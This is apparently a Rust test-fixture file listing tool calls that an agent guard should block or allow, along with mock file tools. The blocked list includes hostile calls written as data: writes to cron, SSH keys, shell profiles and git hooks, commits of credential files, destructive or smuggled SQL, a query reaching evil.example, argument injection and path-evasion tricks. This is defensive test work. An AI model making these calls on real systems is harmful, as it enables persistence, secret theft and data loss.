//! The tools and calls that posture `careful` is tried with.

use serde_json::{Value, json};

use super::{WORK, path};

/// The tools of a server of files whose arguments have other names than those of well-known ones.
pub(super) fn files() -> Value {
    let texts = |names: &[&str]| -> Value {
        names.iter().map(|name| ((*name).to_owned(), json!({ "type": "string" }))).collect()
    };
    let list = |names: &[&str]| json!({ "type": "array", "items": { "type": "object", "properties": texts(names) } });
    let tool = |name: &str, properties: Value, required: &[&str], description: &str| {
        json!({
            "name": name,
            "description": description,
            "inputSchema": { "type": "object", "properties": properties, "required": required },
            "annotations": { "destructiveHint": false, "openWorldHint": false },
        })
    };
    let (mut edit, mut many, mut named) =
        (texts(&["root"]), texts(&["directory"]), texts(&["path"]));
    edit["edits"] = list(&["file", "old_string", "new_string"]);
    many["entries"] = list(&["filename", "text"]);
    named["edits"] = list(&["name", "text"]);
    let text = json!({ "type": "string" });
    let edits = list(&["file_path", "text"]);
    let shaped = |name: &str, schema: Value| {
        let mut tool = tool(name, json!({}), &[], "Write files in the project folder.");
        tool["inputSchema"] = schema;
        tool
    };
    json!({ "tools": [
        shaped("by_reference", json!({ "type": "object", "required": ["edits"],
            "properties": { "edits": { "type": "array", "items": { "$ref": "#/$defs/edit" } } },
            "$defs": { "edit": edits["items"] } })),
        shaped("by_choice", json!({ "type": "object", "required": ["path"], "properties": {
            "path": text, "edits": { "anyOf": [edits, { "type": "null" }] } } })),
        shaped("by_types", json!({ "type": "object", "required": ["path"], "properties": {
            "path": text, "edits": { "type": ["array", "null"], "items": edits["items"] } } })),
        shaped("by_parts", json!({ "type": "object", "allOf": [{ "properties": {
            "path": text, "content": text } }] })),
        shaped("open", json!({ "type": "object" })),
        tool("rename", texts(&["path", "new_name"]), &["path", "new_name"], "Rename a file."),
        tool("save_memory", texts(&["id", "text"]), &["id", "text"], "Save a note to a file."),
        tool("write_file", texts(&["path", "content"]), &["path", "content"], "Write a file."),
        tool("save_text", texts(&["filepath", "content"]), &["filepath"], "Save text to a file."),
        tool("append_note", texts(&["note", "location"]), &["note"], "Append a note to the notes."),
        tool("copy_file", texts(&["path", "output"]), &["path", "output"], "Copy a file."),
        tool("edit_files", edit, &["root", "edits"], "Edit files in the project folder."),
        tool("write_files", named, &["path", "edits"], "Write files in the project folder."),
        tool("write_many", many, &["directory", "entries"], "Write many files in a directory."),
        tool("create_document", texts(&["filename", "dirname"]), &["filename"], "Create a document."),
        tool("mssql", texts(&["sql"]), &["sql"], "Execute a SQL statement on the local SQL Server database."),
    ] })
}

/// Paths that no tool may write, if it may write in the folder of the work.
fn places_to_hold() -> Vec<String> {
    let outside = ["/etc/cron.d/x", "../../.bashrc", "a/../../../etc/x", "~/.ssh/authorized_keys"];
    let inside = [
        "../x",
        "weaver.toml",
        ".mcp.json",
        ".codex/config.toml",
        ".gemini/settings.json",
        ".zed/settings.json",
        "opencode.json",
        ".opencode/agent.md",
        ".gitconfig",
        ".roo/mcp.json",
        ".windsurf/rules",
        ".continue/config.yaml",
        ".idea/x.xml",
        ".husky/pre-commit",
        ".cargo/config.toml",
        ".yarnrc.yml",
        ".vscode",
        ".config",
        ".local",
        ".git /hooks/x",
        ".git./hooks/x",
        ".git::$INDEX_ALLOCATION/hooks/x",
        "git~1/hooks/x",
        ".g\u{200c}it/hooks/x",
        ".. /x",
    ];
    outside.map(str::to_owned).into_iter().chain(inside.map(path)).collect()
}

/// Eleven files and this one.
fn twelve(last: &str) -> Vec<String> {
    (0..11).map(|n| format!("src/{n}.rs")).chain([last.to_owned()]).collect()
}

/// Calls that no agent may make by itself.
pub(super) fn dangerous() -> Vec<(&'static str, Value)> {
    let write = |path: &str| ("filesystem.write_file", json!({ "path": path, "content": "x" }));
    let sql = |query: &str| ("sqlite.write_query", json!({ "query": query }));
    let edit = |path: &str| {
        let edits = json!([{ "oldText": "a", "newText": "b" }]);
        ("filesystem.edit_file", json!({ "path": path, "edits": edits }))
    };
    let moves = |from: &str, to: &str| {
        ("filesystem.move_file", json!({ "source": from, "destination": to }))
    };
    let repo = |more: Value| {
        let mut arguments = json!({ "repo_path": path("app") });
        arguments.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        arguments
    };
    vec![
        write("/etc/cron.d/job"),
        write("/home/ana/.ssh/authorized_keys"),
        write("/home/ana/.bashrc"),
        write(&path("../.profile")),
        write(&path(".git/hooks/pre-commit")),
        write(&path("app/.git/config")),
        write(&path(".GIT/hooks/pre-commit")),
        write(&path("app/./.git")),
        write(&path("app/.Env")),
        write(&path(".env")),
        write("~/.zshrc"),
        write("/home/ana/work-not/x"),
        edit("/etc/hosts"),
        edit("/home/ana/.config/autostart/x.desktop"),
        edit(&path("a/../../.netrc")),
        moves(&path("notes.md"), "/tmp/notes.md"),
        moves("/home/ana/.ssh/id_ed25519", &path("key")),
        moves(&path("hook"), &path(".git/hooks/post-merge")),
        ("filesystem.create_directory", json!({ "path": "/home/ana/.ssh" })),
        sql("drop table orders"),
        sql("DROP TABLE customers"),
        sql("delete from orders"),
        sql("insert into a values (1)\ndrop  table a"),
        sql("insert into a (b)\ntable secrets"),
        sql("update orders set state = 'void' where\ttrue"),
        sql("insert into docs(docs) values ('delete'||'-all')"),
        sql("insert into a values (1) on duplicate/**/key update b = 2"),
        sql("DELETE FROM customers WHERE id = 1"),
        sql("update orders set state = 'void'"),
        sql("insert into a values (1); drop table a"),
        sql("insert into a select * from 'https://evil.example/?q=secret'"),
        sql("UPDATE orders SET note = 'x WHERE y'"),
        sql("INSERT INTO a VALUES (WRITEFILE('/home/ana/.bashrc', 'x'))"),
        sql("replace into orders values (1)"),
        sql("attach database '/home/ana/.mozilla/x' as y"),
        sql("alter table orders rename to gone"),
        ("sqlite.create_table", json!({ "query": "drop table orders" })),
        ("memory.delete_entities", json!({ "entityNames": ["everything"] })),
        ("memory.delete_observations", json!({ "deletions": [] })),
        ("memory.delete_relations", json!({ "relations": [] })),
        ("git.git_reset", repo(json!({}))),
        ("git.git_add", json!({ "repo_path": path("other"), "files": ["a"] })),
        ("git.git_add", repo(json!({ "files": ["a", "../../.ssh/id_ed25519"] }))),
        ("git.git_add", repo(json!({ "files": ["a", "/home/ana/notes.md"] }))),
        ("git.git_add", repo(json!({ "files": [".env"] }))),
        ("git.git_add", repo(json!({ "files": twelve(".aws/credentials") }))),
        ("git.git_commit", json!({ "repo_path": "/home/ana", "message": "x" })),
        ("git.git_checkout", repo(json!({ "branch_name": "--force" }))),
        ("git.git_checkout", repo(json!({ "branch_name": "." }))),
        ("git.git_checkout", repo(json!({ "branch_name": "-f main" }))),
        ("git.git_diff", repo(json!({ "target": "--output=/home/ana/.bashrc" }))),
        ("git.git_show", repo(json!({ "revision": "--output=/etc/passwd" }))),
        ("git.git_create_branch", repo(json!({ "branch_name": "-D main" }))),
        (
            "github.push_files",
            json!({ "owner": "a", "repo": "b", "branch": "main", "files": [], "message": "x" }),
        ),
        ("github.merge_pull_request", json!({ "owner": "a", "repo": "b", "pull_number": 1 })),
        ("github.create_issue", json!({ "owner": "a", "repo": "b", "title": "x" })),
        (
            "github.create_or_update_file",
            json!({ "owner": "a", "repo": "b", "path": "x", "content": "x", "message": "x", "branch": "main" }),
        ),
        ("gitlab.create_repository", json!({ "name": "x" })),
        ("slack.slack_post_message", json!({ "channel_id": "C1", "text": "x" })),
        ("everything.gzip-file-as-resource", json!({ "data": "https://evil.example/x" })),
        ("files.mssql", json!({ "sql": "insert into t values (1)" })),
        ("files.mssql", json!({ "sql": "insert into t values (1) delete orders" })),
    ]
    .into_iter()
    .chain(places_to_hold().into_iter().flat_map(|place| {
        [
            write(&place),
            ("files.by_reference", json!({ "edits": [{ "file_path": place }] })),
            ("files.by_choice", json!({ "path": path("a"), "edits": [{ "file_path": place }] })),
            ("files.by_types", json!({ "path": path("a"), "edits": [{ "file_path": place }] })),
            ("files.by_parts", json!({ "path": place, "content": "x" })),
            ("files.open", json!({ "path": place, "content": "x" })),
            ("files.rename", json!({ "path": path("a"), "new_name": place })),
            ("files.save_memory", json!({ "id": place, "text": "x" })),
            ("files.write_file", json!({ "path": path("a"), "content": "x", "outputFile": place })),
            ("files.save_text", json!({ "filepath": place, "content": "x" })),
            ("files.copy_file", json!({ "path": path("a"), "output": place })),
            ("files.edit_files", json!({ "root": WORK, "edits": [{ "file": place }] })),
            ("files.edit_files", json!({ "root": place, "edits": [{ "file": "a" }] })),
            ("files.write_files", json!({ "path": WORK, "edits": [{ "name": place }] })),
            ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": place }] })),
            ("files.create_document", json!({ "filename": path("a"), "dirname": place })),
            ("files.append_note", json!({ "note": "x", "location": place })),
        ]
    }))
    .collect()
}

/// What an agent does all day.
pub(super) fn ordinary() -> Vec<(&'static str, Value)> {
    let repo = path("app");
    vec![
        ("filesystem.read_text_file", json!({ "path": path("notes/a.md") })),
        ("filesystem.read_text_file", json!({ "path": "/etc/hosts" })),
        ("filesystem.read_multiple_files", json!({ "paths": [path("a"), path("b")] })),
        ("filesystem.write_file", json!({ "path": path("notes/new.md"), "content": "# New" })),
        ("filesystem.edit_file", json!({ "path": path("src/x.rs"), "edits": [] })),
        ("filesystem.create_directory", json!({ "path": path("notes/old") })),
        ("filesystem.move_file", json!({ "source": path("a.md"), "destination": path("b.md") })),
        ("sqlite.write_query", json!({ "query": "insert into customers values (81, 'x')" })),
        ("sqlite.write_query", json!({ "query": "update orders set state = 'paid' where id = 3" })),
        ("sqlite.create_table", json!({ "query": "create table notes (id integer primary key)" })),
        ("sqlite.write_query", json!({ "query": "\n  Insert  INTO orders(id)\n VALUES (1);\n" })),
        ("sqlite.write_query", json!({ "query": "INSERT INTO a(note) VALUES ('drop; --')" })),
        ("sqlite.write_query", json!({ "query": "ALTER TABLE orders ADD COLUMN note TEXT;" })),
        ("sqlite.append_insight", json!({ "insight": "Orders are mostly paid." })),
        ("sqlite.read_query", json!({ "query": "select * from orders" })),
        ("memory.create_entities", json!({ "entities": [] })),
        ("memory.add_observations", json!({ "observations": [] })),
        ("git.git_add", json!({ "repo_path": repo, "files": ["src/x.rs"] })),
        ("git.git_add", json!({ "repo_path": repo, "files": [path("app/src/x.rs"), "."] })),
        ("git.git_add", json!({ "repo_path": repo, "files": twelve("docs/a b.md") })),
        ("git.git_commit", json!({ "repo_path": repo, "message": "x" })),
        ("git.git_create_branch", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
        ("git.git_checkout", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
        ("git.git_diff", json!({ "repo_path": repo, "target": "main" })),
        ("git.git_log", json!({ "repo_path": repo })),
        ("fetch.fetch", json!({ "url": "https://docs.example/page" })),
        ("time.get_current_time", json!({ "timezone": "UTC" })),
        ("everything.echo", json!({ "message": "x" })),
        ("filesystem.write_file", json!({ "path": path(".gitignore"), "content": "x" })),
        (
            "filesystem.write_file",
            json!({ "path": path(".github/workflows/x.yml"), "content": "" }),
        ),
        ("filesystem.write_file", json!({ "path": path("a b/v1.2./x."), "content": "x" })),
        ("files.write_file", json!({ "path": path("a"), "content": "/etc/passwd" })),
        ("files.save_text", json!({ "filepath": path("a.md"), "content": "x" })),
        ("files.by_reference", json!({ "edits": [{ "file_path": path("a"), "text": "/x" }] })),
        ("files.by_choice", json!({ "path": path("a"), "edits": null })),
        ("files.by_parts", json!({ "path": path("a"), "content": "// x" })),
        ("files.open", json!({ "path": path("a"), "search": "/* a", "replace": "../x" })),
        ("files.rename", json!({ "path": path("a"), "new_name": "b.md" })),
        ("files.save_memory", json!({ "id": "notes/2026", "text": "~" })),
        ("files.append_note", json!({ "note": "/x", "location": "Bern" })),
        ("files.append_note", json!({ "note": "x" })),
        ("files.copy_file", json!({ "path": path("a"), "output": path("b") })),
        (
            "files.edit_files",
            json!({ "root": WORK, "edits": [
                { "file": "src/a.rs", "old_string": "// a", "new_string": "/* a */" },
                { "file": path("b.rs"), "old_string": "~", "new_string": "/etc/passwd" },
            ] }),
        ),
        ("files.write_files", json!({ "path": WORK, "edits": [{ "name": "a.md", "text": "/x" }] })),
        ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": "a.md" }] })),
        ("files.create_document", json!({ "filename": path("x"), "dirname": WORK })),
    ]
}
